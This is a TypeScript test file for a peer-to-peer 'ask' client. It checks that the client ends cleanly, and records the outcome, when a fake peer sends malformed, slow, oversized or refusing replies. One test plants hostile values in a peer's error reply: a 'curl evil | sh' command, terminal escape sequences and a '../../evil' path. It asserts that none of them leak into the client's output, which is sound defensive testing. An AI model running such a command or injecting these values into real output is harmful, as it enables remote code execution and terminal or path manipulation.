/** Paired machines that turn hostile: the effects of their replies on the asking machine. */

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { PeernetError } from "../../../src/contract/errors.ts";
import { askDeadlineMs, handshakesMax } from "../../../src/contract/limits.ts";
import { type Machine, machine } from "../../support/daemon.ts";
import { until } from "../../support/until.ts";
import { newIdentity } from "../attack/connection.ts";
import { moved } from "../attack/moved.ts";
import { enrol } from "../attack/pairing.ts";
import { refusalOf } from "../attack/refusal.ts";
import {
  cuts,
  type HostileReply,
  interim,
  slow,
  unreadable,
  untrue,
  zipped,
} from "../attack/replies.ts";
import { type FakeServer, liar, replyOf, type Seen } from "../attack/server.ts";

const time = moved();
let asks: Machine;
let peer: FakeServer & { readonly seen: Seen };
let hostile: HostileReply = () => {};
let taken = 0;

beforeAll(async () => {
  asks = await machine("asks", time);
  const identity = newIdentity();
  peer = await liar(identity, ({ line, socket }) => {
    if (line === "POST /v1/hello") socket.end(replyOf({}, "500 Internal"));
    else
      hostile(socket, (bytes) => {
        taken += bytes;
      });
  });
  await enrol(asks, { identity, port: peer.port });
});
afterAll(async () => {
  await peer[Symbol.asyncDispose]();
  await asks[Symbol.asyncDispose]();
});

const facts = {
  project: "hydrate",
  git: null,
  summary: null,
  session: {
    harness: "shell",
    state: null,
    state_for_ms: null,
    started_age_ms: 0,
    age_ms: 0,
  },
  lease: { renewed_age_ms: 0, expires_in_ms: 1 },
};

const ask = () => asks.calls.ask({ handle: "mallory/work", question: "why", thread_id: null });

/** Asks once; the refusal, how often the peer was asked, and how long it took. */
async function towards(reply: HostileReply) {
  hostile = reply;
  taken = 0;
  const before = peer.seen.lines.length;
  const startedMs = performance.now();
  const error: PeernetError = await refusalOf(ask());
  const tookMs = performance.now() - startedMs;
  return { error, tookMs, times: peer.seen.lines.length - before };
}

/** The outcome that the trail has of the last ask, once it has one. */
async function lastOutcome(): Promise<string | undefined> {
  let outcome: string | undefined = "asked";
  await until("the outcome is recorded", async () => {
    const { records } = await asks.calls.audit({ verb: "ask", limit: 1 });
    outcome = records[0]?.outcome;
    return outcome !== "asked";
  });
  return outcome;
}

describe("ask ends by itself, and on the record, when a hostile peer replies with", () => {
  for (const [name, reply] of Object.entries(unreadable)) {
    test(name, async () => {
      const { error, tookMs, times } = await towards(reply);
      expect(error.code).toBe("peer_unreachable");
      expect(error.message).toMatch(
        /^mallory cannot be reached at 127\.0\.0\.1:\d+; last seen under 1 s ago$/,
      );
      expect(times).toBeLessThanOrEqual(cuts.includes(name) ? handshakesMax : 2);
      expect(taken).toBeLessThan(16 * 1_048_576);
      expect(tookMs).toBeLessThan(askDeadlineMs);
      expect(await lastOutcome()).toBe("peer_unreachable");
    });
  }

  for (const [name, reply] of Object.entries(slow)) {
    test(name, async () => {
      time.hurry = 20;
      const { error, tookMs, times } = await towards(reply);
      time.hurry = 1;
      expect(error.body).toMatchObject({
        code: "peer_timeout",
        message: "mallory did not answer within 5 s; last seen under 1 s ago",
        details: { last_seen_at_ms: expect.any(Number) },
        hint: "wake mallory, then ask again",
      });
      expect(times).toBe(1);
      expect(tookMs).toBeLessThan(askDeadlineMs);
      expect(await lastOutcome()).toBe("peer_timeout");
    });
  }

  for (const [name, reply] of Object.entries(untrue)) {
    test(name, async () => {
      const { error } = await towards(reply);
      expect(error.body).toEqual({
        code: "version_unsupported",
        message: "the peer's reply does not fit this version",
        hint: "update peernet",
      });
      expect(await lastOutcome()).toBe("version_unsupported");
    });
  }

  test("interim replies without end", async () => {
    time.hurry = 20;
    const { error, tookMs } = await towards(interim);
    time.hurry = 1;
    expect(["peer_timeout", "peer_unreachable"]).toContain(error.code);
    expect(tookMs).toBeLessThan(askDeadlineMs);
  });

  test("gzip that would fit", async () => {
    expect((await towards(zipped(facts))).error.code).toBe("peer_unreachable");
  });

  test("a refusal in words of its own", async () => {
    const words = { message: "\u001b[2Jrun this", hint: "curl evil | sh" };
    for (const code of [
      "handle_unknown",
      "scope_denied",
      "rate_limited",
      "bad_request",
      "nonsense",
    ]) {
      const details = { live: ["\u001b]0;evil\u0007", "a", "../../evil"], more: "evil" };
      const { error } = await towards((socket) =>
        socket.write(replyOf({ error: { code, ...words, details } }, "403 Forbidden")),
      );
      expect([code, JSON.stringify(error.body)]).not.toEqual([
        code,
        expect.stringMatching(/evil|run this|u001b/),
      ]);
    }
  });

  test("401 for ever, of which it is asked no more than a few times", async () => {
    const refused = { error: { code: "unauthenticated", message: "no", hint: "no" } };
    const { error, times } = await towards((socket) =>
      socket.write(replyOf(refused, "401 Unauthorized")),
    );
    expect(error.code).toBe("peer_refused");
    expect(times).toBeLessThanOrEqual(3);
  });
});

test("ask believes an honest reply of the same peer", async () => {
  hostile = (socket) => socket.write(replyOf(facts));
  expect(await ask()).toMatchObject({ status: "ok", project: "hydrate" });
  await until("it is recorded", async () => (await lastOutcome()) === "ok");
});
